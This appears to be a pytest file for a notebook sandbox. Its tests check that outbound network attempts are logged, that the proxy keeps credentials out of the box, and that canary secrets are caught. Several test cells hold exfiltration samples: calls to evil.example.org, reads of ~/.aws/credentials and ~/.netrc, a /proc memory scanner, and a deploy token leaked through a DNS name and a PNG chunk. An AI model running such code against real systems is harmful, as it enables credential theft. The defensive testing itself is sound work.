"""Real boxes: what they reach, what is seen of those that try, and what is bait in them."""

from __future__ import annotations

import json
import shutil
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from tempfile import mkdtemp
from typing import TYPE_CHECKING

import pytest

from tests.workers.network import rig
from tests.workers.network.rig import CANARIES, NAME
from tests.workers.network.test_allowed_hosts import CREDENTIAL, KEY, answer
from tests.workers.sandbox.boxes import SMALL, notebook, printed, told
from workers.contract import leaks
from workers.contract.network import Host, Network
from workers.network.starting import proxy
from workers.sandbox.bubblewrap import BubblewrapBox
from workers.sandbox.way_out import ReachingBox

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator

    from tests.workers.network.rig import HostUnderTest
    from tests.workers.sandbox.boxes import Place
    from workers.contract.domain import Execution
    from workers.network.starting import Proxy

AUTHORITY = rig.authority_of()
LONG = replace(SMALL, wall_s=120, cell_timeout_s=100)
"""Time enough for a cell that looks through all the memory it can see, on a machine that is busy."""

QUIET = """
def quietly(call, *arguments):
    try:
        return call(*arguments)
    except Exception:
        return None
"""


def seen(run: Execution, cell: int = 0) -> list[tuple[str, int, str]]:
    """What one cell reached for."""
    return [(each.host, each.port, each.via) for each in run.cells[cell].attempts]


async def test_a_cell_that_reaches_out_is_seen_to_even_where_it_hides_that_it_failed(place: Place) -> None:
    async with rig.sink() as sink:
        run = await place.run(
            QUIET + "import urllib.request\nquietly(urllib.request.urlopen, 'https://evil.example.org/?q=1')",
            f"import socket\nquietly(socket.create_connection, ('203.0.113.9', {sink.port}))",
            "quietly(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b'x', ('203.0.113.10', 53))",
            "quietly(socket.gethostbyname, 'name.example.org')",
            "quietly(socket.socket(socket.AF_INET6).connect, ('2001:db8::1', 443))",
            "1 + 1",
        )

    assert run.status == "passed"
    assert seen(run, 0) == [("evil.example.org", 443, "python")]
    assert seen(run, 1)[0] == ("203.0.113.9", sink.port, "python")
    assert seen(run, 2) == [("203.0.113.10", 53, "python")]
    assert seen(run, 3) == [("name.example.org", 0, "python")]
    assert seen(run, 4) == [("2001:db8::1", 443, "python")]
    assert seen(run, 5) == []
    assert sink.connections == 0


@pytest.mark.parametrize(
    "cell",
    [
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.socket().connect((\"203.0.113.9\", 80))'], stderr=-3)",
        "import os, socket\nif not os.fork():\n    try: socket.getaddrinfo('evil.example.org', 80)\n    finally: os._exit(0)\nos.wait()[1]",
        (
            "import ctypes, socket, struct\nlibc, s = ctypes.CDLL(None), socket.socket()\n"
            "where = struct.pack('<H', socket.AF_INET) + struct.pack('>H', 80) + bytes([203, 0, 113, 9]) + bytes(8)\n"
            "libc.connect(s.fileno(), where, 16)"
        ),
    ],
    ids=["a program", "a fork", "a call of the system by itself"],
)
async def test_what_no_interpreter_tells_of_the_kernel_counts(place: Place, cell: str) -> None:
    run = await place.run("1", cell, "2")

    assert [seen(run, index) for index in range(3)] == [[], [("", 0, "other")], []]


async def test_a_box_that_talks_to_itself_reaches_for_nothing(place: Place) -> None:
    run = await place.run(
        "import socket, threading\nlistener = socket.create_server(('127.0.0.1', 0))\n"
        "threading.Thread(target=listener.accept, daemon=True).start()\n"
        "socket.create_connection(('localhost', listener.getsockname()[1])).close()",
        "socket.getaddrinfo(None, 80), socket.gethostbyname(socket.gethostname()), socket.getfqdn()",
        "import multiprocessing\nmultiprocessing.get_context('fork').Pool(1).map(abs, [-1])",
    )

    assert run.status == "passed", run.error
    assert [seen(run, index) for index in range(3)] == [[], [], []]


async def test_an_interpreter_without_audit_hooks_is_watched_all_the_same(place: Place) -> None:
    run = await place.run(
        QUIET
        + "import json, socket, sys\nsys.path.insert(0, '/opt/mendloop/guest')\nimport reaching\ntold = []\n"
        + "reaching._shim(reaching._Seen(lambda *place: told.append(place)))\n"
        + "quietly(socket.create_connection, ('203.0.113.9', 80))\nquietly(socket.getaddrinfo, 'a.example.org', 'https')\n"
        + "quietly(socket.socket(type=socket.SOCK_DGRAM).sendto, b'x', 0, ('203.0.113.10', 53))\n"
        + "quietly(socket.gethostbyname, 'localhost'), quietly(socket.socket().connect, ('127.0.0.1', 1))\n"
        + "print(json.dumps(told))"
    )

    assert told(run) == [["203.0.113.9", 80], ["203.0.113.9", 80], ["a.example.org", 443], ["203.0.113.10", 53]]


@asynccontextmanager
async def reaching(place: Place, host: HostUnderTest, **more: str) -> AsyncGenerator[tuple[ReachingBox, Proxy]]:
    """A box that may reach the host, and its proxy."""
    folder = Path(mkdtemp(prefix="net-"))
    allowed = Host(name=NAME, port=host.port, methods=("GET", "POST"), credential=more.get("credential", ""))
    try:
        async with proxy(
            Network(hosts=(allowed,)),
            folder=folder,
            canaries=CANARIES,
            credentials=CREDENTIAL,
            recording=folder / "recorded",
            trial=rig.trial(AUTHORITY),
        ) as running:
            box = BubblewrapBox(place.environment, place.overlay, None, LONG, canaries=CANARIES)
            yield ReachingBox(box=box, network=running), running
    finally:
        shutil.rmtree(folder)


async def test_a_box_reaches_the_host_that_was_allowed_and_its_repair_is_told_the_same(place: Place) -> None:
    async with rig.host(answer(b"one"), answer(b"two"), tls=AUTHORITY) as host, rig.sink() as sink:
        url = f"https://{NAME}:{host.port}/a"
        cell = f"import urllib.request\nprint(urllib.request.urlopen({url!r}).read().decode())"
        async with reaching(place, host) as (box, _):
            base = await box.execute(notebook(cell))
            head = await box.execute(notebook("x = 1", cell))

    assert base.error is None, base.error
    assert (printed(base), printed(head, 1)) == ("one\n", "one\n")
    assert host.connections == 1
    assert base.attempts == head.attempts == ()
    assert [run.attempts for run in (*base.cells, *head.cells)] == [(), (), ()]
    assert sink.connections == 0


async def test_from_a_box_with_a_way_out_nothing_else_is_reached(place: Place) -> None:
    async with rig.host(tls=AUTHORITY) as host, rig.sink() as sink, reaching(place, host) as (box, _):
        run = await box.execute(
            notebook(
                QUIET + "import os, socket, urllib.request\n"
                "quietly(urllib.request.urlopen, 'https://evil.example.org/')",
                f"quietly(urllib.request.urlopen, 'http://127.0.0.1.example.org:{sink.port}/')",
                "os.environ.clear()\nquietly(urllib.request.build_opener(urllib.request.ProxyHandler({})).open, "
                "'https://other.example.org/')",
                f"quietly(socket.create_connection, ('127.0.0.1', {sink.port}))",
                "import json; print(json.dumps(sorted(os.listdir('/sys/class/net') if os.path.isdir('/sys/class/net') else ['lo'])))",
            )
        )

    assert sink.connections == 0
    assert host.connections == 0
    assert {each.host for each in run.attempts} == {"evil.example.org", "127.0.0.1.example.org"}
    assert seen(run, 2) == [("other.example.org", 443, "python")]
    assert told(run, 4) == ["lo"]


LOOK = """
import json, os
needle = REVERSED[::-1].encode()
def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 22)
    except OSError:
        return b""
def memory(pid):
    try:
        with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as held:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line.split()[1] and end - start < 1 << 28:
                    held.seek(start)
                    yield held.read(end - start)
    except OSError:
        return
places = [folder for top in ("/tmp", "/run", "/etc", "/repository", "/dev/shm", "/opt/mendloop/way-out") for folder in os.walk(top)]
files = [read(os.path.join(folder, name)) for folder, _, names in places for name in names if name != "log"]
pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
told = [read("/proc/%s/%s" % (pid, name)) for pid in pids for name in ("environ", "cmdline")]
others = [part for pid in pids if int(pid) != os.getpid() for part in memory(pid)]
print(json.dumps({
    "variables": needle in json.dumps(dict(os.environ)).encode(), "files": any(needle in text for text in files),
    "processes": any(needle in text for text in told), "memory": any(needle in text for text in others),
    "proxy": any(b"workers.network.proxy" in text for text in told),
}))
"""


async def test_x138_the_credential_is_nowhere_in_the_box_while_requests_with_it_succeed(place: Place) -> None:
    async with rig.host(tls=AUTHORITY) as host, reaching(place, host, credential="key") as (box, _):
        run = await box.execute(
            notebook(
                f"import urllib.request\nprint(urllib.request.urlopen('https://{NAME}:{host.port}/').headers)",
                f"REVERSED = {KEY[::-1]!r}\n{LOOK}",
            )
        )

    assert run.error is None, run.error
    assert f"bearer {KEY}".lower().encode() in host.heard[0].lower()
    assert KEY not in printed(run)
    assert set(told(run, 1).values()) == {False}


async def test_a_credential_in_the_box_would_be_found_there(place: Place) -> None:
    run = await place.run(f"import os; os.environ['A'] = {KEY!r}\nREVERSED = {KEY[::-1]!r}\n{LOOK}", limits=LONG)

    assert told(run)["variables"]


async def test_bait_lies_where_a_thief_looks_and_is_seen_when_it_is_shown(place: Place) -> None:
    box = BubblewrapBox(place.environment, place.overlay, None, SMALL, canaries=CANARIES)

    run = await box.execute(
        notebook(
            "import os; print(sorted(os.environ.items()))",
            "import pathlib; print(pathlib.Path('~/.aws/credentials').expanduser().read_text())",
            "import base64; print(base64.b64encode(pathlib.Path('~/.netrc').expanduser().read_bytes()).decode())",
            "print('nothing to see')",
            "raise RuntimeError(os.environ['VAULT_BACKUP_TOKEN'])",
        )
    )

    assert [leaks.CANARY in each.leaks for each in run.cells] == [True, True, True, False, True]
    told_of = json.dumps([[output.text for output in each.outputs] for each in run.cells]) + repr(run.error)
    assert not CANARIES.found(told_of.encode())
    assert "[masked]" in printed(run, 0)
    assert "nothing to see" in printed(run, 3)


async def test_without_bait_a_box_has_none(place: Place) -> None:
    run = await place.run(
        "import json, os; print(json.dumps([sorted(os.environ), os.listdir(os.path.expanduser('~'))]))"
    )

    variables, home = told(run)
    assert not set(CANARIES.variables) & set(variables)
    assert ".netrc" not in home


async def test_bait_that_is_sent_to_an_allowed_host_does_not_arrive_and_is_told(place: Place) -> None:
    async with rig.host(tls=AUTHORITY) as host, reaching(place, host) as (box, _):
        run = await box.execute(
            notebook(
                QUIET + "import base64, os, urllib.request\n"
                "stolen = base64.b64encode(os.environ['CI_DEPLOY_TOKEN'].encode())\n"
                f"quietly(urllib.request.urlopen, 'https://{NAME}:{host.port}/', stolen)",
                "import socket\nquietly(socket.gethostbyname, os.environ['CI_DEPLOY_TOKEN'][6:] + '.example.org')",
            )
        )

    assert host.heard == []
    assert [(each.kind, each.host) for each in run.attempts] == [("stolen", NAME)]
    assert [(each.kind, each.host) for each in run.cells[1].attempts] == [("stolen", "[masked]")]


async def test_whole_outputs_with_a_secret_in_them_do_not_leave_the_box(place: Place) -> None:
    box = BubblewrapBox(place.environment, place.overlay, None, SMALL, raw=True, canaries=CANARIES)
    picture = (
        "import base64, os, struct, zlib\nfrom IPython.display import publish_display_data\n"
        "chunk = b'zTXt' + b'Comment\\0\\0' + zlib.compress(os.environ['CI_DEPLOY_TOKEN'].encode())\n"
        "raw = b'\\x89PNG\\r\\n\\x1a\\n' + struct.pack('>I', len(chunk) - 4) + chunk + b'\\0' * 4\n"
        "publish_display_data({'image/png': base64.b64encode(raw).decode()})"
    )

    run = await box.execute(
        notebook(picture, "print('ghp_' + 'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5')", "print('plain')")
    )

    assert leaks.CANARY in run.cells[0].leaks
    assert [each.leaks for each in run.cells[1:]] == [(leaks.SHAPE,), ()]
    assert [bool(each.raw) for each in run.cells] == [False, False, True]
